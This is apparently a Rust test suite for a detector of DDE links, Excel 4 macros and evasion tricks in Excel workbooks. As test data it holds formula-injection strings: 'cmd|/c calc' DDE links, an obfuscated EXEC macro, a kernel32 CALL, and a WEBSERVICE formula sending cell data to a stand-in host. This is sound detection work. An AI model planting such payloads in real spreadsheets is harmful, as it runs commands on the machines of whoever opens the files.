//! Excel's carriers against the project's own samples, damaged ones included.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, missing_docs)]

use ddefend_guard::Limits;
use ddefend_model::{Link, LinkKind, Trigger, trick};
use ddefend_testkit::collect::secrets;
use ddefend_testkit::make::biff::{Workbook, characters, extern_name, name, ptg, record, supbook};
use ddefend_testkit::make::opc::Opc;
use ddefend_testkit::samples::{Expect, Sample, excel};
use ddefend_testkit::{Collected, collect, collect_with};

fn sample(name: &str) -> Sample {
    excel::samples().into_iter().find(|sample| sample.name == name).unwrap_or_else(|| panic!("no sample {name}"))
}

fn read(name: &str) -> Collected {
    collect(name, &sample(name).bytes)
}

fn first(name: &str, kind: LinkKind) -> Link {
    read(name).of_kind(kind).next().unwrap_or_else(|| panic!("no {kind:?} in {name}")).clone()
}

fn saw(link: &Link, trick: &str) -> bool {
    link.tricks.iter().any(|seen| seen.0 == trick)
}

/// Kebab-case name of a kind, as samples write it.
fn name_of(kind: LinkKind) -> &'static str {
    match kind {
        LinkKind::MacroDde => "macro-dde",
        LinkKind::MacroExec => "macro-exec",
        LinkKind::OleLink => "ole-link",
        LinkKind::Exfiltration => "exfiltration",
        LinkKind::Query => "query",
        _ => "other",
    }
}

#[test]
fn every_sample_yields_what_it_expects() {
    let mut wrong = Vec::new();
    for sample in excel::samples() {
        let found = collect(sample.name, &sample.bytes);
        let dde: Vec<&Link> = found.of_kind(LinkKind::Dde).collect();
        let right = match sample.expect {
            Expect::Dde(service, topic) => dde
                .first()
                .is_some_and(|link| link.service.as_deref() == Some(service) && link.topic.as_deref() == Some(topic)),
            Expect::Related(kind) => dde.is_empty() && found.walked.links.iter().any(|link| name_of(link.kind) == kind),
            // A market feed is DDE that starts nothing; who judges it knows that.
            Expect::Silent => {
                found.walked.links.iter().all(|link| link.kind == LinkKind::ExternalWorkbook)
                    || sample.name.contains("market-feed")
            }
        };
        if !right {
            wrong.push(format!("{}: {:?} {:?}", sample.name, found.walked.links, found.walked.diagnostics));
        }
        let gaps: Vec<_> = found.walked.diagnostics.iter().filter(|d| d.is_gap()).collect();
        if !gaps.is_empty() {
            wrong.push(format!("{}: {gaps:?}", sample.name));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn formats_are_named_by_content() {
    for (name, format) in [
        ("x1-advised.xls", "xls"),
        ("x2-book.xls", "xls"),
        ("x3-biff2.xls", "biff"),
        ("x3-raw-biff8.xls", "biff"),
        ("x5-dde-link.xlsx", "xlsx"),
        ("x5-strict.xlsx", "xlsx"),
        ("x7-dde.xlsb", "xlsb"),
        ("x14-web.iqy", "iqy"),
        ("x14-connection.odc", "odc"),
    ] {
        assert_eq!(read(name).walked.detected.unwrap().id, format, "{name}");
    }
}

#[test]
fn record_streams_give_item_cell_and_cached_value() {
    let link = first("x1-advised.xls", LinkKind::Dde);
    assert_eq!(link.item.as_deref(), Some("A0"));
    assert_eq!((link.location.sheet.as_deref(), link.location.cell.as_deref()), (Some("Sheet1"), Some("B2")));
    assert_eq!(link.location.holder.as_deref(), Some("SUPBOOK"));
    assert_eq!((link.trigger, link.count), (Trigger::Open, 1));
    assert!(link.tricks.is_empty(), "{:?}", link.tricks);
    assert_eq!(first("x1-calculated.xls", LinkKind::Dde).trigger, Trigger::Calculation);
    let old = first("x2-book.xls", LinkKind::Dde);
    assert_eq!((old.item.as_deref(), old.location.cell.as_deref()), (Some("A0"), Some("B2")));
    assert!(saw(&old, trick::OLD_FORMAT));
}

#[test]
fn tricks_are_named() {
    for (name, trick) in [
        ("x4-old-stream.xls", trick::DUAL_STREAM),
        ("x1-trailing-bytes.xls", trick::TRAILING_BYTES),
        ("x1-orphan-item.xls", trick::ORPHAN_LINK),
        ("x1-long-service.xls", trick::LONG_SERVICE),
        ("x1-path-trick.xls", trick::PATH_TRICK),
        ("x3-biff3.xls", trick::OLD_FORMAT),
        ("x17-rc4.xls", trick::DEFAULT_PASSWORD),
        ("x17-xor.xls", trick::DEFAULT_PASSWORD),
        ("x5-strict.xlsx", trick::STRICT_NAMESPACE),
        ("x5-renamed.xlsx", trick::RENAMED_PART),
        ("x5-references.xlsx", trick::XML_ENCODING),
        ("x5-utf16.xlsx", trick::XML_ENCODING),
        ("x5-entity.xlsx", trick::XML_ENTITY),
        ("x6-cdata.xlsx", trick::XML_ENCODING),
        ("x7-renamed.xlsb", trick::RENAMED_PART),
    ] {
        let link = first(name, LinkKind::Dde);
        assert!(saw(&link, trick), "{name}: {:?}", link.tricks);
    }
    let hidden = first("x13-hidden-joined.xls", LinkKind::MacroExec);
    assert!(saw(&hidden, trick::HIDDEN_CONTENT));
}

#[test]
fn packages_give_item_cell_and_cached_value() {
    let link = first("x5-dde-link.xlsx", LinkKind::Dde);
    assert_eq!((link.item.as_deref(), link.raw.as_str()), (Some("A0"), "cmd|/c calc!_xlbgnm.A0"));
    assert_eq!((link.location.sheet.as_deref(), link.location.cell.as_deref()), (Some("Sheet1"), Some("A1")));
    assert_eq!(link.trigger, Trigger::Open);
    assert!(link.tricks.is_empty(), "{:?}", link.tricks);
    let binary = first("x7-dde.xlsb", LinkKind::Dde);
    assert_eq!((binary.item.as_deref(), binary.trigger), (Some("A0"), Trigger::Open));
    assert_eq!((binary.location.cell.as_deref(), binary.shown.as_deref()), (Some("B2"), Some("cached")));
}

#[test]
fn formula_text_names_its_holder() {
    for (name, holder) in [
        ("x6-cell.xlsx", "f"),
        ("x6-defined-name.xlsx", "definedName"),
        ("x6-validation.xlsx", "formula1"),
        ("x6-conditional.xlsx", "formula"),
        ("x6-table.xlsx", "calculatedColumnFormula"),
        ("x6-chart.xlsx", "f"),
    ] {
        let link = first(name, LinkKind::Dde);
        assert_eq!(link.location.holder.as_deref(), Some(holder), "{name}");
        assert_eq!((link.item.as_deref(), link.trigger), (Some("A0"), Trigger::Calculation), "{name}");
    }
}

#[test]
fn macros_are_worked_out() {
    for name in ["x13-initiate.xls", "x13-initiate.xlsm", "x13-initiate.xlsb"] {
        let link = first(name, LinkKind::MacroDde);
        assert_eq!((link.service.as_deref(), link.topic.as_deref()), (Some("cmd"), Some("/c calc")), "{name}");
    }
    let both = read("x13-initiate.xls");
    let execute = both.of_kind(LinkKind::MacroDde).nth(1).unwrap();
    assert_eq!((execute.service.as_deref(), execute.item.as_deref()), (Some("cmd"), Some("[calc]")));
    assert_eq!(execute.trigger, Trigger::Open);
    let hidden = first("x13-hidden-joined.xls", LinkKind::MacroExec);
    assert_eq!(hidden.raw, "=EXEC(CHAR(99)&A1&\"exe\"&)".replace("\"&)", "\")"));
    assert_eq!(hidden.target.as_deref(), Some("calc.exe"));
    assert_eq!(first("x13-exec.xlsm", LinkKind::MacroExec).target.as_deref(), Some("calc.exe"));
    assert_eq!(first("x13-exec.xlsb", LinkKind::MacroExec).target.as_deref(), Some("calc.exe"));
}

#[test]
fn feeds_are_one_link() {
    let links = read("x1-near-market-feed.xls").walked.links;
    assert_eq!((links.len(), links[0].count), (1, 606));
}

#[test]
fn queries_name_their_target() {
    for name in ["x14-web.xlsx", "x14-power-query.xlsx", "x14-web.iqy"] {
        let link = first(name, LinkKind::Query);
        assert_eq!(link.target.as_deref(), Some("http://example.test/data.csv"), "{name}");
    }
    assert_eq!(first("x14-web.xlsx", LinkKind::Query).trigger, Trigger::Open);
    assert_eq!(read("x14-power-query.xlsx").walked.links.len(), 1);
}

/// What hides formulas from a search in bytes makes the reader parse: a comment in front must change nothing.
#[test]
fn the_fast_look_agrees_with_parsing() {
    let formulas = [
        "cmd|'/c calc'!A0",
        "SUM(A1:B2)",
        "WEBSERVICE(\"http://example.test/?\"&amp;A1)",
        "webservice (\"http://example.test/?\"&amp;A1)",
        "HYPERLINK(\"http://example.test/\")",
        "_xlfn.WEBSERVICE(A1)",
        "CALL(\"kernel32\",\"x\",\"J\")",
        "DDE(\"cmd\",\"/c calc\",\"x\")",
        "IF(A1,\"|\",2)",
        "cmd\u{ff5c}'/c calc'\u{ff01}A0",
    ];
    for formula in formulas {
        let book = |before: &str| {
            let sheet = format!(
                "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">{before}<sheetData><row>\
                <c r=\"A1\"><f>{formula}</f><v>1</v></c></row></sheetData></worksheet>"
            );
            let bytes = Opc::new().part("xl/sheet.xml", "", sheet).relate("", "officeDocument", "xl/sheet.xml").build();
            let links = collect("a.xlsx", &bytes).walked.links;
            links.into_iter().map(|link| (link.kind, link.service, link.topic)).collect::<Vec<_>>()
        };
        assert_eq!(book(""), book("<!-- -->"), "{formula}");
    }
}

#[test]
fn damage_never_panics_and_is_told() {
    for sample in excel::samples().iter().filter(|sample| sample.name.starts_with("x")) {
        let bytes = &sample.bytes;
        for part in 0..16 {
            let cut = bytes.len() * part / 16;
            let _ = collect(sample.name, &bytes[..cut]);
        }
        for fill in [0, 0xff] {
            for start in (0..bytes.len()).step_by((bytes.len() / 40).max(1)) {
                let mut damaged = bytes.clone();
                let end = (start + 4).min(damaged.len());
                damaged[start..end].fill(fill);
                let _ = collect(sample.name, &damaged);
            }
        }
    }
    for entry in excel::ENTRIES {
        for sample in excel::samples().iter().filter(|sample| (entry.seed)(sample.name)).take(4) {
            (entry.run)(&sample.bytes);
        }
        for length in [0_usize, 1, 7, 300] {
            for byte in [0, 1, 0x15, 0x42, 0x59, 0xff] {
                (entry.run)(&vec![byte; length]);
            }
        }
    }
    let whole = sample("x3-raw-biff8.xls").bytes;
    for part in 4..16 {
        let codes = collect("a.xls", &whole[..whole.len() * part / 16]);
        assert!(codes.walked.diagnostics.iter().any(ddefend_model::Diagnostic::is_gap), "{part}/16");
    }
}

#[test]
fn an_edited_link_leaves_a_trace() {
    let book = Workbook::simple(&[supbook(" "), extern_name(0x000a, "StdDocumentName", "")], &[]);
    let links = collect("a.xls", &book.bytes()).walked.links;
    assert_eq!(links.len(), 1);
    assert_eq!((links[0].kind, links[0].trigger, links[0].service.as_deref()), (LinkKind::Dde, Trigger::Never, None));
    assert!(saw(&links[0], trick::ORPHAN_LINK));
}

#[test]
fn conversations_need_no_sheet_and_survive_continuation() {
    // SUPBOOK cut in two by CONTINUE, and no list of sheets at all.
    let path = characters("cmd\u{3}/c calc");
    let (head, tail) = path.split_at(6);
    let count = (path.len() - 1) as u16;
    let first = [vec![0, 0], count.to_le_bytes().to_vec(), head.to_vec()].concat();
    let globals = [record(0x01ae, &first), record(0x003c, tail), extern_name(2, "A0", "")].concat();
    let book = Workbook { globals, ..Workbook::default() };
    assert_eq!(collect("a.xls", &book.bytes()).dde(), ["cmd|/c calc!A0"]);
}

#[test]
fn sheets_behind_the_end_are_walked_and_overlaps_are_bounded() {
    // Ten thousand listed sheets that all lie in one run of BOF records without an end.
    let bof = record(0x0809, &[0, 6, 0x10, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    let listed: Vec<u8> = (0..10_000_u32)
        .flat_map(|n| {
            let place = 300_000 + n * 20;
            record(0x0085, &[place.to_le_bytes().to_vec(), vec![0, 0, 1, 0, b'A']].concat())
        })
        .collect();
    let mut bytes = [bof.clone(), listed, record(10, &[])].concat();
    bytes.resize(300_000, 0);
    bytes.extend(bof.repeat(10_000));
    let found = collect("a.xls", &bytes);
    assert!(found.codes().contains(&ddefend_model::code::LIMIT_STRUCTURE), "{:?}", found.codes());
}

#[test]
fn names_may_hold_macro_calls() {
    let exec = [ptg::text("calc.exe"), ptg::call(110, 1)].concat();
    let found = collect("a.xls", &Workbook::simple(&[name("run", false, &exec)], &[]).bytes());
    let link = found.of_kind(LinkKind::MacroExec).next().unwrap();
    assert_eq!((link.target.as_deref(), link.location.cell.as_deref()), (Some("calc.exe"), Some("run")));
}

#[test]
fn database_queries_of_record_streams() {
    let connection = "ODBC;DSN=x;SERVER=db.example.test";
    let text = [(connection.len() as u16).to_le_bytes().to_vec(), characters(connection)].concat();
    let records = [record(0x00dc, &[0; 12]), record(0x00cd, &text)];
    let found = collect("a.xls", &Workbook::simple(&[], &records).bytes());
    assert_eq!(found.of_kind(LinkKind::Query).next().unwrap().target.as_deref(), Some(connection));
}

#[test]
fn real_locked_workbooks_open_with_their_password() {
    let Ok(data) = std::env::var("DDEFEND_DATA") else { return };
    let mut known = secrets();
    known.user = vec!["abc".to_owned(), "password".to_owned()];
    for name in ["apache__poi/xor-encryption-abc.xls", "SheetJS__test_files/password_2002_40_xor.xls"] {
        let bytes = std::fs::read(format!("{data}/documents/benign/{name}")).unwrap();
        let codes: Vec<String> = collect_with(name, &bytes, Limits::default(), &known)
            .walked
            .diagnostics
            .iter()
            .map(|d| d.code.to_string())
            .collect();
        assert_eq!(codes, ["note.password"], "{name}");
    }
}
